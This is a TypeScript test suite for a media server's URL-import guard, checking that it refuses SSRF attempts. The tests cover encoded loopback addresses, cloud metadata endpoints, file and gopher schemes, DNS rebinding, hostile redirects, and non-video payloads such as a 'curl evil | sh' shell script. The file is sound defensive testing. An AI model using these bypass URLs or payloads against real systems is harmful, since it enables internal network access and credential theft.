import type { ServerResponse } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ResolvedAddress } from '../../../src-server/remote/target-guard.js';
import { RemoteJobSchema, type RemoteJob } from '../../../src-shared/api/index.js';
import { startLocalHttpServer, waitFor, type LocalHttpServer } from '../../helpers/local-http-server.js';
import { fakeMp4, serve } from '../../helpers/media-fixtures.js';
import { startTestServer, type TestServer } from '../../helpers/test-server.js';

/**
 * The import guard with its default setting (private targets refused). A trap
 * server on 127.0.0.1 counts connections: every hostile URL must be refused
 * without one. The fake DNS gives test names the addresses an attacker would.
 */
let t: TestServer;
let trap: LocalHttpServer;
let source: LocalHttpServer;
const asked: string[] = [];
let rebindAnswers = 0;
let rebind6Answers = 0;

const dns: Record<string, string[]> = {
  'internal.test': ['127.0.0.1'],
  'mixed.test': ['93.184.216.34', '10.0.0.5'],
  'v6private.test': ['fd12::1'],
  'mapped.test': ['::ffff:192.168.0.1'],
  'metadata.test': ['169.254.169.254'],
  // AAAA answers in IPv6 forms that carry an IPv4 address, spelled as getaddrinfo prints them
  'compat.test': ['::127.0.0.1'],
  'compat-public.test': ['::93.184.216.34'],
  'nat64.test': ['64:ff9b::a00:1'],
  'sixtofour.test': ['2002:7f00:1::1'],
  'teredo.test': ['2001:0:4136:e378:8000:63bf:80ff:fffe'],
  'unspecified.test': ['::'],
  'unspecified4.test': ['0.0.0.0'],
};

async function resolveHost(host: string): Promise<ResolvedAddress[]> {
  asked.push(host);
  if (host === 'rebind.test') {
    // Public at creation, loopback when the worker connects: DNS rebinding.
    return [{ address: rebindAnswers++ === 0 ? '93.184.216.34' : '127.0.0.1', family: 4 }];
  }
  if (host === 'rebind6.test') {
    // the same, to loopback in its IPv4-compatible IPv6 form
    return rebind6Answers++ === 0 ? [{ address: '93.184.216.34', family: 4 }] : [{ address: '::127.0.0.1', family: 6 }];
  }
  const addresses = dns[host];
  if (!addresses) throw Object.assign(new Error(`getaddrinfo ENOTFOUND ${host}`), { code: 'ENOTFOUND' });
  return addresses.map((address) => ({ address, family: address.includes(':') ? 6 : 4 }));
}

beforeAll(async () => {
  trap = await startLocalHttpServer();
  trap.route('/v.mp4', serve(fakeMp4(1000), 'video/mp4'));
  source = await startLocalHttpServer();
  t = await startTestServer({
    rateLimit: 10_000,
    conversions: false,
    resolveHost,
    // The source alone gets through the guard, so redirects and bodies can be tested; the trap never does.
    allowedTargets: [`127.0.0.1:${source.port}`],
    remoteMaxBytes: 100_000,
    remoteDeadlineMs: 3_000,
    remoteIdleTimeoutMs: 700,
    remoteConcurrency: 4,
  });
});
afterAll(async () => {
  await t.close();
  await Promise.all([trap.close(), source.close()]);
});

const create = (urls: string[]) => t.api('/remote-uploads', { method: 'POST', json: { urls } });
const finalJob = (id: string) =>
  waitFor(
    async () => {
      const job: RemoteJob = RemoteJobSchema.parse((await t.api(`/remote-uploads/${id}`)).json.data);
      return ['completed', 'failed', 'cancelled'].includes(job.status) ? job : undefined;
    },
    15_000,
    `job ${id} to finish`,
  );

describe('hostile URLs are refused at creation, without a connection to the target', () => {
  const P = () => trap.port;
  const hostile: [string, () => string][] = [
    ['loopback', () => `http://127.0.0.1:${P()}/v.mp4`],
    ['loopback, short form', () => `http://127.1:${P()}/v.mp4`],
    ['loopback, decimal', () => `http://2130706433:${P()}/v.mp4`],
    ['loopback, hex', () => `http://0x7f000001:${P()}/v.mp4`],
    ['loopback, hex octet', () => `http://0x7f.0.0.1:${P()}/v.mp4`],
    ['loopback, octal', () => `http://0177.0.0.1:${P()}/v.mp4`],
    ['loopback, octal whole', () => `http://017700000001:${P()}/v.mp4`],
    ['loopback, zero padded', () => `http://127.000.000.001:${P()}/v.mp4`],
    ['loopback, trailing dot', () => `http://127.0.0.1.:${P()}/v.mp4`],
    ['loopback, other /8 address', () => `http://127.9.9.9:${P()}/v.mp4`],
    ['IPv6 loopback', () => `http://[::1]:${P()}/v.mp4`],
    ['IPv4-mapped IPv6 loopback', () => `http://[::ffff:127.0.0.1]:${P()}/v.mp4`],
    ['IPv4-mapped IPv6 loopback, long form', () => `http://[0:0:0:0:0:ffff:7f00:1]:${P()}/v.mp4`],
    ['unspecified 0.0.0.0', () => `http://0.0.0.0:${P()}/v.mp4`],
    ['unspecified, short 0', () => `http://0:${P()}/v.mp4`],
    ['unspecified IPv6', () => `http://[::]:${P()}/v.mp4`],
    ['localhost', () => `http://localhost:${P()}/v.mp4`],
    ['localhost, trailing dot and capitals', () => `http://LOCALHOST.:${P()}/v.mp4`],
    ['*.localhost', () => `http://media.localhost:${P()}/v.mp4`],
    ['name resolving to loopback', () => `http://internal.test:${P()}/v.mp4`],
    ['private 10/8', () => 'http://10.0.0.1/v.mp4'],
    ['private 172.16/12', () => 'http://172.16.5.4/v.mp4'],
    ['private 192.168/16', () => 'http://192.168.1.1/v.mp4'],
    ['name resolving to private and public', () => 'http://mixed.test/v.mp4'],
    ['IPv6 unique local', () => 'http://[fc00::1]/v.mp4'],
    ['name resolving to IPv6 unique local', () => 'http://v6private.test/v.mp4'],
    ['name resolving to IPv4-mapped private', () => 'http://mapped.test/v.mp4'],
    ['link-local', () => 'http://169.254.10.10/v.mp4'],
    ['IPv6 link-local', () => 'http://[fe80::1]/v.mp4'],
    ['cloud metadata', () => 'http://169.254.169.254/latest/meta-data/'],
    ['cloud metadata, decimal', () => 'http://2852039166/latest/meta-data/'],
    ['cloud metadata, IPv6', () => 'http://[fd00:ec2::254]/latest/meta-data/'],
    ['cloud metadata, name', () => 'http://metadata.google.internal/computeMetadata/v1/'],
    ['name resolving to metadata', () => 'http://metadata.test/latest/'],
    ['carrier-grade NAT', () => 'http://100.64.0.1/v.mp4'],
    ['metadata in CGNAT space', () => 'http://100.100.100.200/latest/meta-data/'],
    ['multicast', () => 'http://224.0.0.1/v.mp4'],
    ['IPv6 multicast', () => 'http://[ff02::1]/v.mp4'],
    ['broadcast', () => 'http://255.255.255.255/v.mp4'],
    ['NAT64 of loopback', () => 'http://[64:ff9b::7f00:1]/v.mp4'],
    ['6to4 of loopback', () => 'http://[2002:7f00:1::1]/v.mp4'],
    ['IPv4-compatible IPv6 loopback', () => `http://[::127.0.0.1]:${P()}/v.mp4`],
    ['IPv4-compatible IPv6 loopback, hex', () => `http://[::7f00:1]:${P()}/v.mp4`],
    ['IPv4-compatible IPv6 loopback, long form', () => `http://[0:0:0:0:0:0:127.0.0.1]:${P()}/v.mp4`],
    ['IPv4-compatible IPv6 private', () => 'http://[::10.0.0.1]/v.mp4'],
    ['IPv4-compatible IPv6 of a public address', () => 'http://[::93.184.216.34]/v.mp4'],
    ['IPv4-compatible IPv6 metadata', () => 'http://[::169.254.169.254]/latest/meta-data/'],
    ['IPv4-translated loopback', () => `http://[::ffff:0:127.0.0.1]:${P()}/v.mp4`],
    ['IPv4-mapped unspecified', () => `http://[::ffff:0.0.0.0]:${P()}/v.mp4`],
    ['IPv4-mapped metadata', () => 'http://[::ffff:169.254.169.254]/latest/meta-data/'],
    ['NAT64 of private, dotted', () => 'http://[64:ff9b::10.0.0.1]/v.mp4'],
    ['NAT64 local-use prefix', () => `http://[64:ff9b:1::7f00:1]:${P()}/v.mp4`],
    ['6to4 of private', () => 'http://[2002:c0a8:101::1]/v.mp4'],
    ['Teredo', () => 'http://[2001:0:4136:e378:8000:63bf:80ff:fffe]/v.mp4'],
    ['unspecified IPv6, long form', () => `http://[0:0:0:0:0:0:0:0]:${P()}/v.mp4`],
    ['name resolving to IPv4-compatible loopback', () => `http://compat.test:${P()}/v.mp4`],
    ['name resolving to IPv4-compatible public', () => `http://compat-public.test:${P()}/v.mp4`],
    ['name resolving to NAT64 of private', () => 'http://nat64.test/v.mp4'],
    ['name resolving to 6to4 of loopback', () => `http://sixtofour.test:${P()}/v.mp4`],
    ['name resolving to Teredo', () => 'http://teredo.test/v.mp4'],
    ['name resolving to ::', () => `http://unspecified.test:${P()}/v.mp4`],
    ['name resolving to 0.0.0.0', () => `http://unspecified4.test:${P()}/v.mp4`],
    ['scheme ftp', () => 'ftp://example.test/v.mp4'],
    ['scheme file', () => 'file:///etc/passwd'],
    ['scheme gopher', () => `gopher://127.0.0.1:${P()}/_GET`],
    ['scheme javascript', () => 'javascript:alert(1)'],
    ['scheme data', () => 'data:video/mp4;base64,AAAAGGZ0eXA='],
    ['credentials', () => `http://user:pass@127.0.0.1:${P()}/v.mp4`],
    ['user name only', () => 'http://user@example.test/v.mp4'],
    ['backslash before @', () => `http://example.test\\@127.0.0.1:${P()}/v.mp4`],
  ];

  it.each(hostile)('%s', async (_label, url) => {
    const before = trap.connections;
    const res = await create([url()]);
    expect(res.status).toBe(422);
    expect(res.json.error.code).toBe('VALIDATION_ERROR');
    expect(res.json.error.details['urls.0']).toBeDefined();
    expect(trap.connections).toBe(before);
  });

  it('covers at least 30 hostile URLs and never connected to the trap', () => {
    expect(hostile.length).toBeGreaterThanOrEqual(30);
    expect(trap.connections).toBe(0);
  });

  it('never asked DNS about a literal IP host', () => {
    expect(asked.filter((host) => /^[\d.]+$|:/.test(host))).toEqual([]);
    expect(asked).toContain('internal.test');
  });

  it('refuses a whole request when one URL of several is hostile, creating no job', async () => {
    const res = await create([`${source.origin}/fine.mp4`, 'http://10.1.1.1/x.mp4']);
    expect(res.status).toBe(422);
    expect(Object.keys(res.json.error.details)).toEqual(['urls.1']);
    expect((await t.api('/remote-uploads')).json.meta.total).toBe(0);
  });
});

describe('the worker checks again when it downloads', () => {
  const redirect = (location: () => string) => (_req: unknown, res: ServerResponse) => {
    res.writeHead(302, { location: location() }).end();
  };

  async function importFailure(path: string) {
    const res = await create([`${source.origin}${path}`]);
    expect(res.status).toBe(202);
    return finalJob(res.json.data[0].id);
  }

  it.each([
    ['to the loopback trap', () => `http://127.0.0.1:${trap.port}/v.mp4`],
    ['to localhost', () => `http://localhost:${trap.port}/v.mp4`],
    ['to a name resolving to loopback', () => `http://internal.test:${trap.port}/v.mp4`],
    ['to a decimal IP', () => `http://2130706433:${trap.port}/v.mp4`],
    ['to IPv4-compatible IPv6 loopback', () => `http://[::127.0.0.1]:${trap.port}/v.mp4`],
    ['to a name resolving to IPv4-compatible loopback', () => `http://compat.test:${trap.port}/v.mp4`],
    ['to cloud metadata', () => 'http://169.254.169.254/latest/meta-data/'],
    ['to a file URL', () => 'file:///etc/passwd'],
    ['to a URL with credentials', () => `http://a:b@127.0.0.1:${trap.port}/v.mp4`],
  ])('a redirect %s is refused, and the trap sees no connection', async (label, location) => {
    const path = `/redirect-${label.replace(/\W+/g, '-')}`;
    source.route(path, redirect(location));
    const job = await importFailure(path);
    expect(job).toMatchObject({ status: 'failed', error: { code: 'TARGET_REFUSED' } });
    expect(trap.connections).toBe(0);
  });

  it('follows up to 5 redirects, refuses the sixth', async () => {
    for (let i = 1; i <= 6; i++)
      source.route(
        `/hop${i}`,
        redirect(() => `/hop${i + 1}`),
      );
    source.route('/hop7', serve(fakeMp4(5000), 'video/mp4'));
    source.route(
      '/start5',
      redirect(() => '/hop3'),
    );
    const five = await importFailure('/start5');
    expect(five.status).toBe('completed');
    const six = await importFailure('/hop1');
    expect(six).toMatchObject({ status: 'failed', error: { code: 'TOO_MANY_REDIRECTS' } });
  });

  it('refuses a name that was public at creation and resolves to loopback when fetched (DNS rebinding)', async () => {
    const res = await create([`http://rebind.test:${trap.port}/v.mp4`]);
    expect(res.status).toBe(202);
    const job = await finalJob(res.json.data[0].id);
    expect(job).toMatchObject({ status: 'failed', error: { code: 'TARGET_REFUSED' } });
    expect(job.error).toMatchObject({ message: expect.stringContaining('127.0.0.1') });
    expect(trap.connections).toBe(0);
  });

  it('refuses a name that turns into IPv4-compatible loopback when fetched', async () => {
    const res = await create([`http://rebind6.test:${trap.port}/v.mp4`]);
    expect(res.status).toBe(202);
    const job = await finalJob(res.json.data[0].id);
    expect(job).toMatchObject({
      status: 'failed',
      error: { code: 'TARGET_REFUSED', message: expect.stringContaining('carrying 127.0.0.1') },
    });
    expect(trap.connections).toBe(0);
  });

  it.each([
    ['an HTML page', serve('<!doctype html><title>x</title>', 'text/html')],
    ['JSON', serve('{"a":1}', 'application/json')],
    ['an image', serve(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0]), 'image/png')],
    ['HTML labelled as video', serve(`<html><body>${'x'.repeat(2000)}</body></html>`, 'video/mp4')],
    ['script labelled as video', serve('<script>fetch("/steal")</script>', 'video/mp4')],
    ['shell script labelled as video', serve('#!/bin/sh\ncurl evil | sh\n', 'video/mp4')],
    ['plain text labelled as video', serve('hello, this is not a video at all', 'video/webm')],
    [
      'unknown bytes labelled as octet-stream',
      serve(Buffer.from([1, 2, 3, 0, 255, 254, 0, 7]), 'application/octet-stream'),
    ],
  ])('refuses %s as not a video, and stores nothing', async (label, handler) => {
    const path = `/content-${label.replace(/\W+/g, '-')}`;
    source.route(path, handler);
    const job = await importFailure(path);
    expect(job).toMatchObject({ status: 'failed', error: { code: 'NOT_VIDEO' }, file_id: null });
  });

  it('accepts a real container under an opaque label', async () => {
    source.route('/opaque', serve(fakeMp4(4000), 'application/octet-stream'));
    expect((await importFailure('/opaque')).status).toBe('completed');
  });

  it('stops at the byte cap whether or not the size was announced', async () => {
    source.route('/big-announced', serve(fakeMp4(150_000), 'video/mp4'));
    source.route('/big-chunked', (_req, res) => {
      res.writeHead(200, { 'content-type': 'video/mp4' });
      res.end(fakeMp4(150_000));
    });
    for (const path of ['/big-announced', '/big-chunked']) {
      const job = await importFailure(path);
      expect(job).toMatchObject({ status: 'failed', error: { code: 'TOO_LARGE' } });
    }
  });

  it('gives up on a source that stops sending (idle timeout)', async () => {
    source.route('/stall', (_req, res) => {
      res.writeHead(200, { 'content-type': 'video/mp4', 'content-length': 50_000 });
      res.write(fakeMp4(1000));
    });
    const job = await importFailure('/stall');
    expect(job).toMatchObject({ status: 'failed', error: { code: 'TIMEOUT' } });
  });

  it('gives up when the whole download passes the deadline, even if bytes keep coming', async () => {
    source.route('/trickle', (_req, res) => {
      res.writeHead(200, { 'content-type': 'video/mp4' });
      res.write(fakeMp4(600));
      let sent = 0;
      const timer = setInterval(() => {
        if (res.destroyed || sent++ > 100) return clearInterval(timer);
        res.write(Buffer.alloc(100, 1));
      }, 100);
      res.on('close', () => clearInterval(timer));
    });
    const job = await importFailure('/trickle');
    expect(job).toMatchObject({
      status: 'failed',
      error: { code: 'TIMEOUT', message: expect.stringContaining('longer') },
    });
  });
});
